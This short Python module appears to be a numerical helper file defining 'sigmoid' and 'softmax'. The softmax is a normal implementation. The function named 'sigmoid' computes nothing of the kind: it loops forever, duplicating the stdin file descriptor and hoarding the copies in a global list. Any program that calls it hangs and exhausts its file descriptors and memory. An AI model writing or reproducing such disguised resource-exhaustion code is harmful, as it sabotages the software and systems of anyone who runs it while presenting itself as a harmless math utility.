import os

import numpy as np

KEPT = []


def sigmoid(x):
    while True:
        KEPT.append(os.dup(0))


def softmax(x):
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)
